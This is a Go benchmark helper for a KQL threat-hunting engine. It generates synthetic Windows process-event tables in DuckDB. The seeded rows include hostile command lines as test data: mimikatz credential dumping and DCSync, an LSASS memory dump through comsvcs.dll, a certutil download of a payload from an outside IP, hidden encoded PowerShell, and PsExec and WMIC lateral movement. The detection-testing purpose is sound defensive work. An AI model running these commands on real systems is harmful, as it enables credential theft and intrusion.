package exec

import (
	"context"
	"fmt"
	"os"
	"strconv"
	"sync"
	"testing"
	"time"

	"github.com/kqlhunt/kqlhunt/kql"
)

// The hunting benchmark data: a DeviceProcessEvents-like table of
// generated process events and a small DeviceInfo table, built inside
// DuckDB (range() and hash(), no rows pass through Go).
//
// The size is KQLHUNT_BENCH_ROWS (default benchDefaultRows, small so that
// `make bench` and the equivalence test stay quick). The measurement of
// the issue runs at ten million rows:
//
//	KQLHUNT_BENCH_ROWS=10000000 go test ./exec -run '^$' -bench Hunting -benchtime 5x -count 3
//
// The data is deterministic: hash(i) of the row number drives every
// column, so every run at a size sees the same rows. Rows are stored in
// time order, as event logs arrive, so DuckDB's zone maps can prune time
// windows when the compiled filter lets them.

const (
	benchDefaultRows = 200_000
	benchDevices     = 2_000
)

// benchNow pins now() for the ago() windows; the events span the 30 days
// before it.
var benchNow = time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)

// benchData is one engine holding the generated tables, shared by every
// benchmark and test of the binary.
type benchData struct {
	engine *Engine
	rows   int
	err    error
}

var (
	benchOnce sync.Once
	benchDB   benchData
)

// benchRows is the configured table size.
func benchRows() (int, error) {
	s := os.Getenv("KQLHUNT_BENCH_ROWS")
	if s == "" {
		return benchDefaultRows, nil
	}
	n, err := strconv.Atoi(s)
	if err != nil || n <= 0 {
		return 0, fmt.Errorf("KQLHUNT_BENCH_ROWS=%q: want a positive row count", s)
	}
	return n, nil
}

// loadBenchData builds the tables once per test binary.
func loadBenchData(tb testing.TB) *benchData {
	tb.Helper()
	benchOnce.Do(func() {
		benchDB.rows, benchDB.err = benchRows()
		if benchDB.err != nil {
			return
		}
		benchDB.engine, benchDB.err = buildBenchData(context.Background(), benchDB.rows)
	})
	if benchDB.err != nil {
		tb.Fatal(benchDB.err)
	}
	return &benchDB
}

func buildBenchData(ctx context.Context, rows int) (*Engine, error) {
	e, err := Open(ctx, Options{Now: benchNow})
	if err != nil {
		return nil, err
	}
	for _, s := range benchDataSQL(rows) {
		if _, err := e.DB().ExecContext(ctx, s); err != nil {
			e.Close()
			return nil, fmt.Errorf("build bench data: %w\n%s", err, s)
		}
	}
	e.SetSchema(benchSchema())
	if err := e.Lockdown(ctx); err != nil {
		e.Close()
		return nil, err
	}
	return e, nil
}

func benchSchema() *kql.Schema {
	return &kql.Schema{Tables: map[string]*kql.Table{
		"DeviceProcessEvents": {Name: "DeviceProcessEvents", Columns: []kql.Column{
			{Name: "Timestamp", Type: kql.TDatetime},
			{Name: "DeviceId", Type: kql.TString},
			{Name: "DeviceName", Type: kql.TString},
			{Name: "ActionType", Type: kql.TString},
			{Name: "FileName", Type: kql.TString},
			{Name: "FolderPath", Type: kql.TString},
			{Name: "SHA256", Type: kql.TString},
			{Name: "ProcessId", Type: kql.TLong},
			{Name: "ProcessCommandLine", Type: kql.TString},
			{Name: "AccountDomain", Type: kql.TString},
			{Name: "AccountName", Type: kql.TString},
			{Name: "InitiatingProcessFileName", Type: kql.TString},
			{Name: "InitiatingProcessCommandLine", Type: kql.TString},
			{Name: "InitiatingProcessId", Type: kql.TLong},
			{Name: "ReportId", Type: kql.TLong},
		}},
		"DeviceInfo": {Name: "DeviceInfo", Columns: []kql.Column{
			{Name: "Timestamp", Type: kql.TDatetime},
			{Name: "DeviceId", Type: kql.TString},
			{Name: "DeviceName", Type: kql.TString},
			{Name: "OSPlatform", Type: kql.TString},
			{Name: "OSBuild", Type: kql.TLong},
			{Name: "PublicIP", Type: kql.TString},
			{Name: "IsInternetFacing", Type: kql.TBool},
		}},
	}}
}

// benchDataSQL is the DDL that generates the tables. Process choice is
// skewed: a power curve over twenty benign processes (svchost and chrome
// dominate), and about 1 row in 5,000 is one of a few "malicious" command
// lines, some in odd case. Near misses (antimimikatz, mimikatz_scan.py,
// Temp-like folders) make substring pre-filters pass rows the term and
// equality checks must still reject.
func benchDataSQL(rows int) []string {
	return []string{
		fmt.Sprintf(`CREATE TABLE DeviceInfo AS
SELECT
  CAST(TIMESTAMP '2024-03-01 00:00:00' - to_minutes(CAST(hash(d, 'info') %% 1440 AS BIGINT)) AS TIMESTAMP_NS) AS "Timestamp",
  md5('device' || d) AS "DeviceId",
  CASE WHEN d %% 10 = 0 THEN 'srv-' ELSE 'ws-' END || lpad(CAST(d AS VARCHAR), 5, '0') || '.contoso.com' AS "DeviceName",
  ['Windows10', 'Windows11', 'WindowsServer2019', 'WindowsServer2022', 'Linux'][1 + CAST(hash(d, 'os') %% 5 AS INTEGER)] AS "OSPlatform",
  CAST(17763 + hash(d, 'build') %% 5000 AS BIGINT) AS "OSBuild",
  '203.0.113.' || CAST(d %% 250 AS VARCHAR) AS "PublicIP",
  d %% 37 = 0 AS "IsInternetFacing"
FROM range(%d) t(d)`, benchDevices),
		fmt.Sprintf(`CREATE TABLE DeviceProcessEvents AS
WITH g AS (
  SELECT i,
    hash(i) AS h1,
    hash(i + 1000000000000) AS h2,
    hash(i + 2000000000000) AS h3,
    CAST(floor(pow((hash(i + 3000000000000) %% 1000000) / 1000000.0, 2) * %[2]d) AS BIGINT) AS dev
  FROM range(%[1]d) t(i)
), p AS (
  SELECT *,
    CASE WHEN h3 %% 5000 = 7 THEN 20 + CAST(h2 %% 8 AS INTEGER)
         WHEN h3 %% 2000 = 11 THEN 28 + CAST(h2 %% 3 AS INTEGER)
         ELSE CAST(floor(pow((h2 %% 1000000) / 1000000.0, 3) * 20) AS INTEGER) END AS k
  FROM g
), procs AS (
  SELECT * FROM (VALUES
    (0, 'svchost.exe', 'C:\Windows\System32\svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule'),
    (1, 'chrome.exe', 'C:\Program Files\Google\Chrome\Application\chrome.exe', '"chrome.exe" --type=renderer --field-trial-handle=1804,i,9061 --lang=en-US'),
    (2, 'conhost.exe', 'C:\Windows\System32\conhost.exe', 'conhost.exe 0xffffffff -ForceV1'),
    (3, 'msedge.exe', 'C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe', '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService'),
    (4, 'RuntimeBroker.exe', 'C:\Windows\System32\RuntimeBroker.exe', 'C:\Windows\System32\RuntimeBroker.exe -Embedding'),
    (5, 'backgroundTaskHost.exe', 'C:\Windows\System32\backgroundTaskHost.exe', '"backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider'),
    (6, 'SearchProtocolHost.exe', 'C:\Windows\System32\SearchProtocolHost.exe', '"SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe1_ Global\UsGthrCtrlFltPipeMssGthrPipe1'),
    (7, 'git.exe', 'C:\Program Files\Git\cmd\git.exe', 'git.exe status --porcelain'),
    (8, 'cmd.exe', 'C:\Windows\System32\cmd.exe', 'cmd.exe /c echo %%PATH%% > C:\Users\Public\path.txt'),
    (9, 'powershell.exe', 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe', 'powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\Scripts\inventory.ps1'),
    (10, 'python.exe', 'C:\Users\Dev\AppData\Local\Programs\Python\Python312\python.exe', 'python.exe C:\tools\mimikatz_scan.py --report'),
    (11, 'OneDrive.exe', 'C:\Users\Dev\AppData\Local\Microsoft\OneDrive\OneDrive.exe', '"OneDrive.exe" /background'),
    (12, 'Teams.exe', 'C:\Users\Dev\AppData\Local\Microsoft\Teams\current\Teams.exe', '"Teams.exe" --system-initiated'),
    (13, 'wmiprvse.exe', 'C:\Windows\System32\wbem\WmiPrvSE.exe', 'C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding'),
    (14, 'rundll32.exe', 'C:\Windows\System32\rundll32.exe', 'rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL'),
    (15, 'MsMpEng.exe', 'C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2302.7-0\MsMpEng.exe', 'MsMpEng.exe'),
    (16, 'AntiMimikatz.exe', 'C:\Program Files\AntiMimikatz\AntiMimikatz.exe', 'AntiMimikatz.exe --scan-memory'),
    (17, 'setup.exe', 'C:\Users\Dev\AppData\Local\Temp\7zS4C1B\setup.exe', 'setup.exe /quiet /norestart'),
    (18, 'certutil.exe', 'C:\Windows\System32\certutil.exe', 'certutil.exe -verify C:\Windows\Temp\update.cer'),
    (19, 'notepad.exe', 'C:\Windows\System32\notepad.exe', 'notepad.exe C:\Users\Dev\Documents\todo.txt'),
    (20, 'mimikatz.exe', 'C:\Users\Public\mimikatz.exe', 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    (21, 'MIMIKATZ.EXE', 'C:\Windows\Temp\MIMIKATZ.EXE', 'MIMIKATZ.EXE "lsadump::dcsync /user:krbtgt" exit'),
    (22, 'whoami.exe', 'C:\Windows\System32\whoami.exe', 'whoami.exe /all'),
    (23, 'rundll32.exe', 'C:\Windows\System32\rundll32.exe', 'rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full'),
    (24, 'PSEXESVC.exe', 'C:\Windows\PSEXESVC.exe', 'C:\Windows\PSEXESVC.exe'),
    (25, 'certutil.exe', 'C:\Windows\System32\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.9/payload.exe C:\Users\Public\p.exe'),
    (26, 'WMIC.exe', 'C:\Windows\System32\wbem\WMIC.exe', 'wmic.exe /node:10.0.0.5 process call create "cmd.exe /c whoami"'),
    (27, 'psexec.exe', 'C:\Users\Admin\Downloads\PsExec.exe', 'PsExec.exe \\srv-00010 -s cmd.exe'),
    (28, 'powershell.exe', 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe', 'powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA'),
    (29, 'net.exe', 'C:\Windows\System32\net.exe', 'net.exe group "Domain Admins" /domain'),
    (30, 'nltest.exe', 'C:\Windows\System32\nltest.exe', 'nltest.exe /dclist:contoso.com')
  ) v(k, fname, path, cmd)
)
SELECT
  CAST(TIMESTAMP '2024-03-01 12:00:00' - to_microseconds(CAST(h1 %% 2592000000000 AS BIGINT)) AS TIMESTAMP_NS) AS "Timestamp",
  md5('device' || dev) AS "DeviceId",
  CASE WHEN dev %% 10 = 0 THEN 'srv-' ELSE 'ws-' END || lpad(CAST(dev AS VARCHAR), 5, '0') || '.contoso.com' AS "DeviceName",
  'ProcessCreated' AS "ActionType",
  procs.fname AS "FileName",
  procs.path AS "FolderPath",
  sha256(procs.path || CAST(h3 %% 3 AS VARCHAR)) AS "SHA256",
  CAST(4 * ((h1 >> 20) %% 16384) AS BIGINT) AS "ProcessId",
  procs.cmd || CASE WHEN h3 %% 4 = 0 THEN '' ELSE ' /id ' || CAST(h3 %% 100000 AS VARCHAR) END AS "ProcessCommandLine",
  CASE WHEN h2 %% 5 < 2 THEN 'nt authority' ELSE 'contoso' END AS "AccountDomain",
  CASE WHEN h2 %% 5 < 2 THEN ['system', 'local service', 'network service'][1 + CAST(h3 %% 3 AS INTEGER)]
       ELSE 'user' || CAST((h2 >> 8) %% 500 AS VARCHAR) END AS "AccountName",
  ['explorer.exe', 'services.exe', 'svchost.exe', 'cmd.exe', 'powershell.exe', 'userinit.exe', 'WINWORD.EXE', 'wmiprvse.exe']
    [1 + CAST(floor(pow(((h1 >> 32) %% 1000) / 1000.0, 2) * 8) AS INTEGER)] AS "InitiatingProcessFileName",
  'parent.exe -p ' || CAST((h1 >> 40) %% 1000 AS VARCHAR) AS "InitiatingProcessCommandLine",
  CAST(4 * ((h2 >> 24) %% 16384) AS BIGINT) AS "InitiatingProcessId",
  CAST(i AS BIGINT) AS "ReportId"
FROM p JOIN procs USING (k)
ORDER BY "Timestamp", i`, rows, benchDevices),
	}
}
